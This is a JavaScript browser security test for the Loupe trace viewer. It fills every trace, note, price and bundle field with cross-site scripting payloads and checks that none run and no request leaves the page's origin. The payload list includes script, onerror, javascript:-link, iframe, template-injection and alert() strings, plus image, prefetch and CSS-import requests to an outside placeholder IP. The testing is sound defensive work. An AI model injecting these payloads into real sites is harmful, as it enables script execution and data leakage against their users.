// Content a user did not write runs nothing. A trace file carries script, event-handler,
// `javascript:` link, SVG, iframe and template payloads in every field a trace can carry (span
// names, attribute keys and values, messages, tool calls and definitions, model parameters,
// events, links, status, service, scope, session, user, tags, model, and the file's name);
// price overrides, a note, and a bundle's notes, prices and view state carry them too. Every
// view is opened: the trace list, each span's detail and chat, both flame graphs with hover,
// latency, cost, the Share dialog, the bundle in a fresh page, and the standalone report. No
// payload may run (a global marker, `dialog` events) and no request may leave, both in a build
// whose Content-Security-Policy is removed (Loupe's own escaping) and in the build as shipped.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { pathToFileURL } from 'node:url';
import { serve, launch, openPage, settled, dist } from './harness.mjs';

const CSP = /<meta[^>]*Content-Security-Policy[^>]*>/i;

let dir;
let browser;
const servers = {};

before(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'loupe-hostile-'));
  // The page as built, and a copy whose policy meta tag is removed.
  const bare = path.join(dir, 'dist-without-csp');
  fs.cpSync(dist, bare, { recursive: true });
  const index = path.join(bare, 'index.html');
  const html = fs.readFileSync(index, 'utf8');
  assert.match(html, CSP, 'the built page has a policy to remove');
  fs.writeFileSync(index, html.replace(CSP, ''));
  servers.with = await serve('/');
  servers.without = await serve('/', bare);
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await servers.with?.close();
  await servers.without?.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

/** What a payload does if it runs: marks the window with the field it came from. */
const mark = (field) => `window.__pwned='${field}'`;

/** Every way text could run as markup, or leak as a request, labelled with its field. */
function payload(field) {
  return [
    `${field}:<script>${mark(field)}</script>`,
    `<img src=x onerror="${mark(field)}">`,
    `<svg onload="${mark(field)}"><circle r=1 /></svg>`,
    `<a href="javascript:${mark(field)}">link</a> javascript:${mark(field)}`,
    `<iframe srcdoc="<script>parent.${mark(field)}</script>"></iframe>`,
    `{{constructor.constructor("${mark(field)}")()}} \${${mark(field)}} <%= ${mark(field)} %>`,
    `"><img src=x onerror=alert(1)> '><body onload=alert(2)>`,
    `<img src="http://198.51.100.7/leak/${field}"><link rel=prefetch href="https://198.51.100.7/">`,
    `<style>@import url(//198.51.100.7/css);</style>`,
  ].join(' ');
}

const TRACE = '5b8efff798038103d269b633813fc60c';
const OTHER_TRACE = '0af7651916cd43dd8448eb211c80319c';
const str = (v) => ({ stringValue: v });
const attr = (key, value) => ({ key, value: typeof value === 'number' ? { intValue: String(value) } : str(value) });

/** An OTLP/JSON request with every field a trace can carry set to a payload. */
function hostileTrace() {
  const span = (spanId, parentSpanId, field, start, end, attributes, extra = {}) => ({
    traceId: TRACE, spanId, parentSpanId, name: payload(`${field}-name`),
    kind: 1, startTimeUnixNano: String(start), endTimeUnixNano: String(end), attributes, ...extra,
  });
  const root = span('a000000000000001', undefined, 'root', 1e18, 1e18 + 9e9, [
    attr('openinference.span.kind', 'AGENT'),
    attr('session.id', payload('session')),
    attr('user.id', payload('user')),
    { key: 'tag.tags', value: { arrayValue: { values: [str(payload('tag')), str('plain-tag')] } } },
    attr('input.value', payload('input')),
    attr('output.value', payload('output')),
    attr('metadata', JSON.stringify({ note: payload('metadata') })),
    attr(payload('attribute-key'), payload('attribute-value')),
    { key: 'json-value', value: { kvlistValue: { values: [attr(payload('kv-key'), payload('kv-value'))] } } },
  ], {
    status: { code: 2, message: payload('status') },
    events: [{
      timeUnixNano: String(1e18 + 1e9), name: payload('event'),
      attributes: [
        attr('exception.type', payload('exception-type')),
        attr('exception.message', payload('exception-message')),
        attr('exception.stacktrace', payload('exception-stacktrace')),
      ],
    }],
    links: [{ traceId: OTHER_TRACE, spanId: 'b000000000000001', attributes: [attr('link', payload('link'))] }],
  });
  const llm = span('a000000000000002', 'a000000000000001', 'llm', 1e18 + 1e9, 1e18 + 4e9, [
    attr('openinference.span.kind', 'LLM'),
    attr('llm.model_name', payload('model')),
    attr('llm.provider', payload('provider')),
    attr('llm.input_messages.0.message.role', 'system'),
    attr('llm.input_messages.0.message.content', payload('system-message')),
    attr('llm.input_messages.1.message.role', 'user'),
    attr('llm.input_messages.1.message.content', payload('user-message')),
    attr('llm.output_messages.0.message.role', 'assistant'),
    attr('llm.output_messages.0.message.content', payload('assistant-message')),
    attr('llm.output_messages.0.message.tool_calls.0.tool_call.function.name', payload('tool-call')),
    attr('llm.output_messages.0.message.tool_calls.0.tool_call.function.arguments', JSON.stringify({ q: payload('tool-arguments') })),
    attr('llm.tools.0.tool.json_schema', JSON.stringify({ name: payload('tool-definition'), description: payload('tool-description') })),
    attr('llm.invocation_parameters', JSON.stringify({ temperature: 0.2, stop: [payload('parameter')] })),
    attr('llm.token_count.prompt', 120),
    attr('llm.token_count.completion', 30),
  ]);
  const genai = span('a000000000000003', 'a000000000000001', 'genai', 1e18 + 4e9, 1e18 + 6e9, [
    attr('gen_ai.operation.name', 'chat'),
    attr('gen_ai.request.model', payload('genai-model')),
    attr('gen_ai.system_instructions', JSON.stringify([{ type: 'text', content: payload('instructions') }])),
    attr('gen_ai.input.messages', JSON.stringify([{ role: 'user', parts: [{ type: 'text', content: payload('genai-input') }] }])),
    attr('gen_ai.output.messages', JSON.stringify([{
      role: 'assistant',
      parts: [{ type: 'tool_call', id: payload('call-id'), name: payload('genai-tool'), arguments: { x: payload('genai-arguments') } }],
    }])),
    attr('gen_ai.tool.definitions', JSON.stringify([{ type: 'function', name: payload('genai-definition') }])),
    attr('gen_ai.usage.input_tokens', 40),
    attr('gen_ai.usage.output_tokens', 8),
  ]);
  const tool = span('a000000000000004', 'a000000000000002', 'tool', 1e18 + 2e9, 1e18 + 3e9, [
    attr('openinference.span.kind', 'TOOL'),
    attr('tool.name', payload('tool-name')),
    attr('tool.parameters', JSON.stringify({ p: payload('tool-parameters') })),
  ]);
  const other = {
    traceId: OTHER_TRACE, spanId: 'b000000000000001', name: payload('other-trace'),
    startTimeUnixNano: String(1e18), endTimeUnixNano: String(1e18 + 2e9), attributes: [],
  };
  return {
    resourceSpans: [{
      resource: { attributes: [attr('service.name', payload('service')), attr(payload('resource-key'), payload('resource-value'))] },
      scopeSpans: [{ scope: { name: payload('scope'), version: payload('scope-version') }, spans: [root, llm, genai, tool, other] }],
    }],
  };
}

/** Records what would show that a payload ran: dialogs opened, and the marker. */
function watch(page) {
  const dialogs = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}); });
  return async (where) => {
    assert.equal(await page.evaluate(() => window.__pwned), undefined, `a payload ran (${where})`);
    assert.deepEqual(dialogs, [], `a dialog opened (${where})`);
  };
}

/** Every request went to the page's own origin, as a GET. */
function onlyOwn(requests, url) {
  for (const r of requests) {
    assert.equal(r.method, 'GET', r.url);
    assert.equal(new URL(r.url).origin, new URL(url).origin, r.url);
  }
}

/** Moves the mouse across a canvas, row by row; the tooltips' texts seen on the way. */
async function hoverAcross(page, testid) {
  const canvas = await page.waitForSelector(`[data-testid="${testid}"]`);
  await canvas.scrollIntoViewIfNeeded();
  const box = await canvas.boundingBox();
  const tips = new Set();
  for (let y = 5; y < Math.min(box.height, 120); y += 18) {
    for (let f = 0.05; f < 1; f += 0.15) {
      await page.mouse.move(box.x + box.width * f, box.y + y);
      for (const t of await page.$$eval('.flame-tip', (els) => els.map((e) => e.textContent))) tips.add(t);
    }
  }
  return [...tips].join('\n');
}

/** Opens every view of the loaded session; returns how many spans' details were opened. */
async function visitEverything(page, check) {
  await page.click('[data-testid="tab-overview"]');
  await page.waitForSelector('[data-testid="overview-traces"]');
  await check('overview');
  await page.click('[data-testid="tab-traces"]');
  await page.waitForSelector('[data-testid="trace-row"]');
  let opened = 0;
  const traces = await page.locator('[data-testid="trace-row"]').count();
  for (let t = 0; t < traces; t += 1) {
    await page.click(`[data-testid="trace-row"] >> nth=${t}`);
    await page.waitForSelector('[data-testid="span-row"]');
    const spans = await page.locator('[data-testid="span-row"]').count();
    for (let s = 0; s < spans; s += 1) {
      await page.click(`[data-testid="span-row"] >> nth=${s}`);
      await page.waitForSelector('[data-testid="span-detail"] h2');
      await page.click('[data-testid="span-detail"] details.raw summary');
      opened += 1;
    }
    await check(`trace ${t}'s spans`);
    await page.click('[data-testid="view-flame"]');
    assert.match(await hoverAcross(page, 'trace-flame-canvas'), /[a-z]:<script>window/, 'a tooltip shows a name');
    await check(`trace ${t}'s flame graph`);
    await page.click('[data-testid="view-waterfall"]');
    await page.click('[data-testid="back-to-traces"]');
    await page.waitForSelector('[data-testid="trace-row"]');
  }
  await page.click('[data-testid="tab-flame"]');
  assert.match(await hoverAcross(page, 'flame-canvas'), /[a-z]:<script>window/, 'a tooltip shows a name');
  await check('the aggregated flame graph');
  await page.click('[data-testid="tab-latency"]');
  await page.waitForSelector('[data-testid="latency-row"]');
  const hist = await page.$('[data-testid="latency-histogram"]');
  const hb = await hist.boundingBox();
  for (let f = 0.05; f < 1; f += 0.1) await page.mouse.click(hb.x + hb.width * f, hb.y + hb.height * 0.85);
  await check('latency');
  await page.click('[data-testid="tab-cost"]');
  await page.waitForSelector('[data-testid="cost-table"]');
  await hoverAcross(page, 'cost-chart');
  await check('cost');
  await page.click('[data-testid="tab-traces"]');
  return opened;
}

for (const policy of ['without', 'with']) {
  test(`no payload runs and no request leaves, ${policy} the Content-Security-Policy`, async () => {
    const url = servers[policy].url;
    const trace = path.join(dir, `${payload('file-name').slice(0, 40).replaceAll('/', '_')}.json`);
    fs.writeFileSync(trace, JSON.stringify(hostileTrace()));
    const prices = path.join(dir, 'prices.json');
    fs.writeFileSync(prices, JSON.stringify({ [payload('model')]: { input: 1, output: 2 }, [payload('price')]: { input: 3, output: 4 } }));

    const { page, errors, requests } = await openPage(browser, url);
    const check = watch(page);
    if (policy === 'without') {
      // The check can fail: in this build a payload inserted as markup does run.
      await page.evaluate((html) => { document.createElement('div').innerHTML = html; }, `<img src="data:," onerror="${mark('control')}">`);
      await page.waitForFunction(() => window.__pwned === 'control');
      await page.evaluate(() => { delete window.__pwned; });
    }
    await page.setInputFiles('[data-testid="file-input"]', trace);
    await page.waitForSelector('[data-testid="trace-row"]');
    await settled(page);
    assert.equal(await page.textContent('[data-testid="trace-count"]'), '2');
    assert.match(await page.textContent('[data-testid="file-ok"]'), /file-name:<script>/, 'the file name shows as text');
    await page.click('[data-testid="tab-cost"]');
    await page.setInputFiles('[data-testid="price-import"]', prices);
    await page.waitForFunction(() => document.querySelector('[data-testid="price-overrides"]')?.textContent.includes('price:<script>'));
    await page.click('[data-testid="tab-traces"]');
    // A note with a payload, pinned to a span.
    await page.locator('[data-testid="trace-row"]', { hasText: 'root-name' }).click();
    await page.click('[data-testid="span-row"] >> nth=1');
    await page.fill('[data-testid="note-text"]', payload('note'));
    await page.click('[data-testid="note-add"]');
    await page.waitForSelector('[data-testid="note"]');
    await page.click('[data-testid="back-to-traces"]');

    const opened = await visitEverything(page, check);
    assert.equal(opened, 5, 'every span was opened');
    // What the payloads became is shown as text: the chat, the tool call and the detail.
    await page.locator('[data-testid="trace-row"]', { hasText: 'root-name' }).click();
    await page.click('[data-testid="span-row"] >> nth=1');
    await page.waitForSelector('[data-testid="span-chat"]');
    assert.match(await page.textContent('[data-testid="span-chat"]'), /user-message:<script>window\.__pwned='user-message'<\/script>/);
    assert.match(await page.textContent('[data-testid="tool-call"]'), /tool-call:<script>/);
    await page.click('[data-testid="back-to-traces"]');

    // The Share dialog, its bundle and its report.
    await page.click('[data-testid="share-button"]');
    await page.waitForFunction(() => document.querySelector('[data-testid="share-preview"]')?.textContent.includes('Removes'));
    await check('the Share dialog');
    const [bundleDownload] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid="share-export"]')]);
    await page.click('[data-testid="share-button"]');
    await page.waitForFunction(() => document.querySelector('[data-testid="share-preview"]')?.textContent.includes('Removes'));
    const [reportDownload] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid="share-report"]')]);
    const bundleFile = path.join(dir, `shared-${policy}.loupe.json.gz`);
    const reportFile = path.join(dir, `report-${policy}.html`);
    await bundleDownload.saveAs(bundleFile);
    await reportDownload.saveAs(reportFile);
    await check('the exports');
    onlyOwn(requests, url);
    assert.deepEqual(errors, []);
    await page.close();

    // The bundle, given payloads in its notes, prices and view state, in a fresh page.
    const bundle = JSON.parse(zlib.gunzipSync(fs.readFileSync(bundleFile)).toString('utf8'));
    const noted = bundle.notes?.[0];
    assert.ok(noted, 'the note went into the bundle');
    bundle.notes.push({ trace: noted.trace, text: payload('bundle-trace-note') });
    bundle.notes.push({ trace: payload('note-trace'), span: payload('note-span'), text: payload('lost-note') });
    bundle.prices = { ...bundle.prices, [payload('bundle-price')]: { input: 5, output: 6 } };
    bundle.view = {
      tab: payload('tab'), query: payload('query'), trace: payload('view-trace'), span: payload('view-span'),
      mode: payload('mode'), weight: payload('weight'), focus: [payload('focus')],
    };
    const hostileBundle = path.join(dir, `${payload('bundle-name').slice(0, 30).replaceAll('/', '_')}.loupe.json.gz`);
    fs.writeFileSync(hostileBundle, zlib.gzipSync(JSON.stringify(bundle)));
    const second = await openPage(browser, url);
    const checkSecond = watch(second.page);
    await second.page.setInputFiles('[data-testid="file-input"]', hostileBundle);
    await second.page.waitForSelector('[data-testid="file-ok"]');
    await settled(second.page);
    await checkSecond('the bundle, as loaded');
    assert.match(await second.page.inputValue('[data-testid="filter"]'), /^query:<script>/, 'the view\'s filter is text');
    await second.page.fill('[data-testid="filter"]', '');
    await second.page.press('[data-testid="filter"]', 'Enter');
    await second.page.evaluate(() => document.activeElement.blur());
    await second.page.waitForSelector('[data-testid="trace-row"]');
    assert.ok(await visitEverything(second.page, checkSecond) >= 5);
    onlyOwn(second.requests, url);
    assert.deepEqual(second.errors, []);
    await second.page.close();

    // The standalone report, opened from disk (its own policy removed too, in the run without).
    let html = fs.readFileSync(reportFile, 'utf8');
    if (policy === 'without') {
      assert.match(html, CSP);
      html = html.replace(CSP, '');
    }
    fs.writeFileSync(reportFile, html);
    const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
    const leaving = [];
    context.on('request', (r) => leaving.push(r.url()));
    const reader = await context.newPage();
    const readerErrors = [];
    reader.on('pageerror', (e) => readerErrors.push(String(e)));
    const checkReader = watch(reader);
    const reportUrl = pathToFileURL(reportFile).href;
    await reader.goto(reportUrl);
    await reader.waitForSelector('[data-testid="trace-row"]');
    await settled(reader);
    assert.ok(await visitEverything(reader, checkReader) >= 5);
    assert.deepEqual(readerErrors, []);
    assert.deepEqual(leaving, [reportUrl], 'nothing but the report itself');
    await context.close();
  });
}
